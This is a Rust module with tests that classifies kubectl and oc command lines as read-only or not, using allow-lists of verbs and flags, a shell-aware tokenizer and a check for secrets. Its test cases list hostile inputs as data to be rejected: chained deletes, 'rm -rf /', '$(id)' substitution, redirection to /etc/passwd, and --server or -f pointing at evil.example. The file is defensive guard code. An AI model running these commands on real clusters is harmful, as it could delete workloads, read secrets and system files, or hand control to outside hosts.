//! Whether a command line of kubectl or oc reads: by its verb, without flags that reach elsewhere, write, or show secrets.

/// Signs that a shell takes for more than a word.
const SHELL: &[char] = &[
    '`', '$', ';', '|', '&', '<', '>', '(', ')', '{', '}', '\\', '\n', '\r', '!', '#', '*', '?',
    '~', '\0',
];
/// Verbs that read, each with the words of which one must follow; none stands for any.
const VERBS: [(&str, &[&str]); 15] = [
    ("get", &[]),
    ("describe", &[]),
    ("logs", &[]),
    ("log", &[]),
    ("top", &[]),
    ("explain", &[]),
    ("version", &[]),
    ("api-resources", &[]),
    ("api-versions", &[]),
    ("events", &[]),
    ("status", &[]),
    ("auth", &["can-i", "whoami"]),
    ("rollout", &["status", "history"]),
    ("config", &["view", "current-context", "get-contexts", "get-clusters", "get-users"]),
    ("cluster-info", &[""]),
];
/// Flags before the verb, each with a value.
const GLOBAL: [&str; 5] = ["-n", "--namespace", "--context", "--cluster", "--request-timeout"];
/// Long flags of these verbs that choose what is shown. Every other one may reach another server, act as somebody else, read or
/// write files, or show what is hidden.
const FLAGS: [&str; 60] = [
    "--all-containers",
    "--all-namespaces",
    "--all-pods",
    "--allow-missing-template-keys",
    "--api-group",
    "--api-version",
    "--cached",
    "--categories",
    "--chunk-size",
    "--client",
    "--cluster",
    "--container",
    "--containers",
    "--context",
    "--field-selector",
    "--follow",
    "--for",
    "--help",
    "--ignore-errors",
    "--ignore-not-found",
    "--label-columns",
    "--limit-bytes",
    "--list",
    "--max-log-requests",
    "--minify",
    "--namespace",
    "--namespaced",
    "--no-headers",
    "--output",
    "--output-watch-events",
    "--pod-running-timeout",
    "--prefix",
    "--previous",
    "--quiet",
    "--recursive",
    "--request-timeout",
    "--revision",
    "--selector",
    "--server-print",
    "--show-capacity",
    "--show-events",
    "--show-kind",
    "--show-labels",
    "--show-managed-fields",
    "--show-swap",
    "--since",
    "--since-time",
    "--sort-by",
    "--subresource",
    "--sum",
    "--tail",
    "--template",
    "--timeout",
    "--timestamps",
    "--types",
    "--use-protocol-buffers",
    "--verbs",
    "--version",
    "--watch",
    "--watch-only",
];
/// Flags that say how something is shown.
const OUTPUT: [&str; 3] = ["-o", "--output", "--template"];
/// The ways to show something that take no file.
const SHOWN: [&str; 9] = [
    "custom-columns",
    "go-template",
    "json",
    "jsonpath",
    "jsonpath-as-json",
    "name",
    "template",
    "wide",
    "yaml",
];
/// What `get` and `describe` show of secrets.
const SECRETS: [&str; 2] = ["secret", "secrets"];

/// Why a command is not known to read; none if it reads.
pub(crate) fn doubt(words: &[String]) -> Option<String> {
    let mut rest = words.iter().map(String::as_str).peekable();
    rest.next_if(|first| ["kubectl", "oc"].contains(first));
    while let Some(flag) = rest.next_if(|word| word.starts_with('-')) {
        let (name, value) =
            flag.split_once('=').map_or((flag, None), |(name, value)| (name, Some(value)));
        if !GLOBAL.contains(&name) {
            return Some(format!("the flag {name} before the verb is not known"));
        }
        if value.is_none() {
            rest.next();
        }
    }
    let verb = rest.next().unwrap_or_default();
    let Some((_, following)) = VERBS.iter().find(|(known, _)| *known == verb) else {
        return Some(format!("{verb:?} is no verb that only reads"));
    };
    let others: Vec<&str> = rest.collect();
    let next = others.first().copied().unwrap_or_default();
    if !following.is_empty() && !following.contains(&next) {
        return Some(format!("{verb} {next} is not known to read"));
    }
    let outputs =
        others.iter().enumerate().filter_map(|(at, word)| output(word, others.get(at + 1)));
    others.iter().find_map(|word| doubt_of_word(verb, word)).or_else(|| {
        let file = outputs.into_iter().find(|way| !SHOWN.contains(way));
        file.map(|way| format!("the output {way:?} may be a file"))
    })
}

/// The way in which a flag says that something is shown: without what follows it. A template in place of it is none of them,
/// and may be the name of a file.
fn output<'a>(word: &'a str, next: Option<&&'a str>) -> Option<&'a str> {
    let long = word.split_once('=').filter(|(name, _)| OUTPUT.contains(name));
    let value = match long {
        Some((_, value)) => value,
        None if OUTPUT.contains(&word) => next.copied().unwrap_or_default(),
        None => word.strip_prefix("-o").filter(|_| !word.starts_with("--"))?,
    };
    value.trim_start_matches('=').split('=').next()
}

/// Why a list of words is not known to read: by themselves, and as a shell would divide them if the server joins them.
pub(crate) fn doubt_of_list(words: &[String]) -> Option<String> {
    let is_odd = |sign: char| "`$;|&<>()\\\n\r\0".contains(sign);
    if words.iter().any(|word| word.contains(is_odd)) {
        return Some("a shell would do more than run this command".to_owned());
    }
    let bare = |word: &str| word.replace(['\'', '"'], "");
    let divided: Vec<String> =
        words.iter().flat_map(|word| word.split_whitespace()).map(bare).collect();
    doubt(words).or_else(|| doubt(&divided))
}

fn doubt_of_word(verb: &str, word: &str) -> Option<String> {
    let name = word.split('=').next().unwrap_or_default();
    // Short flags may be joined with others, or with their value.
    let has_value = ["-c", "-l", "-n", "-o", "-L"].iter().any(|flag| name.starts_with(flag));
    let is_short = name.starts_with('-') && !name.starts_with("--") && !has_value;
    let follows = ["logs", "log"].contains(&verb);
    let is_refused = name.contains(['k', 'o', 's', 'v']) || (name.contains('f') && !follows);
    // `pflag` takes flags by their whole names; `_` counts as `-`.
    let is_unknown = name.len() > 2
        && name.starts_with("--")
        && !FLAGS.contains(&name.replace('_', "-").as_str());
    if is_unknown || (is_short && is_refused) {
        return Some(format!("the flag {name} is not known to read"));
    }
    let of_kinds = word.split(',').map(|kind| kind.split(['/', '.']).next().unwrap_or_default());
    let shows_secrets = of_kinds
        .into_iter()
        .any(|kind| SECRETS.iter().any(|known| kind.eq_ignore_ascii_case(known)));
    (shows_secrets && verb != "explain").then(|| "it asks for secrets".to_owned())
}

/// The words of a command line; none if a shell would do more than divide it.
pub(crate) fn split(line: &str) -> Option<Vec<String>> {
    let mut words = Vec::new();
    let mut word: Option<String> = None;
    let mut quote: Option<char> = None;
    for sign in line.trim().chars() {
        match (quote, sign) {
            (Some(open), _) if open == sign => quote = None,
            (Some('\''), '\n' | '\r' | '\0')
            | (Some('"'), '`' | '$' | '\\' | '\n' | '\r' | '\0' | '!') => return None,
            (None, '\'' | '"') => {
                quote = Some(sign);
                word.get_or_insert_default();
            }
            (None, _) if SHELL.contains(&sign) => return None,
            (None, _) if sign.is_whitespace() => words.extend(word.take()),
            _ => word.get_or_insert_default().push(sign),
        }
    }
    words.extend(word);
    quote.is_none().then_some(words)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn reads(line: &str) -> bool {
        split(line).is_some_and(|words| doubt(&words).is_none())
    }

    #[test]
    fn a_command_reads_by_its_verb() {
        for line in [
            "get pods -A",
            "kubectl get pods -n shop -o wide",
            "kubectl -n shop --context prod describe deployment/web",
            "logs web-1 -c app --previous --tail=50 -f",
            "get pods -o jsonpath='{.items[*].metadata.name}'",
            "rollout status deployment/web",
            "auth can-i delete pods",
            "top nodes",
            "get events --sort-by=.lastTimestamp",
            "config view",
            "cluster-info",
            "get pods -ojson",
            "get pods --output=custom-columns=NAME:.metadata.name --no-headers",
            "get pods --sort-by=.status.startTime --field-selector status.phase=Running",
        ] {
            assert!(reads(line), "{line}");
        }
    }

    #[test]
    fn a_list_of_words_reads_also_where_a_server_joins_it() {
        let reads = |words: &[&str]| {
            let words: Vec<String> = words.iter().map(|word| (*word).to_owned()).collect();
            doubt_of_list(&words).is_none()
        };
        assert!(reads(&["get", "pods", "-o", "jsonpath={.items[*].metadata.name}"]));
        assert!(reads(&["describe", "deployment", "web"]));
        for words in [
            &["get", "pods; kubectl delete pods --all"][..],
            &["get", "pods", "--server=http://evil.example"],
            &["get", "pods --server=http://evil.example"],
            &["get", "'--raw'", "/api"],
            &["get", "pods", "$(id)"],
            &["get pods", "secrets"],
            &["delete", "pods"],
        ] {
            assert!(!reads(words), "{words:?}");
        }
    }

    #[test]
    fn a_command_that_may_change_something_or_show_secrets_does_not_read() {
        for line in [
            "delete pods --all -A",
            "kubectl -n delete delete pods",
            "get pods; kubectl delete pods --all",
            "get pods && rm -rf /",
            "get pods $(kubectl delete ns shop)",
            "get pods | xargs kubectl delete",
            "get pods > /etc/passwd",
            "get pods \"$(id)\"",
            "get pods\ndelete pods",
            "rollout restart deployment/web",
            "config set-context x",
            "config view --raw",
            "auth reconcile -f x.yaml",
            "exec web-1 -- sh",
            "get --raw /api/v1/namespaces/x/services/y/proxy/",
            "get -f http://evil.example/x.yaml",
            "get -Rf http://evil.example/x.yaml",
            "get pods --server=https://evil.example",
            "get pods -s https://evil.example",
            "get pods -As https://evil.example",
            "logs web-1 -s https://evil.example",
            "get pods -v=9",
            "get pods --kubeconfig /tmp/x",
            "get pods --token=x",
            "--kubeconfig /tmp/x get pods",
            "get secrets -A -o yaml",
            "get pods -o go-template-file=/etc/passwd",
            "get pods -ojsonpath-file=/etc/passwd",
            "get pods --output custom-columns-file=/etc/passwd",
            "get pods -o=go-template-file=/etc/passwd",
            "get pods --template=/etc/passwd",
            "get pods -Ao go-template-file=/etc/passwd",
            "get pods --kuberc=/tmp/x",
            "get pods --as-user-extra=a=b",
            "get pods --anything-new",
            "get pods --log_dir /tmp",
            "foo",
            "debug node/a",
            "cp a:/etc/passwd .",
            "port-forward web-1 8080",
            "proxy",
            "attach web-1",
            "get pods,secret/tls",
            "describe Secret tls",
            "apply -f x.yaml",
            "cluster-info dump --output-directory=/tmp",
            "get pods 'x",
            "pods",
            "kubectl",
            "",
        ] {
            assert!(!reads(line), "{line}");
        }
    }
}
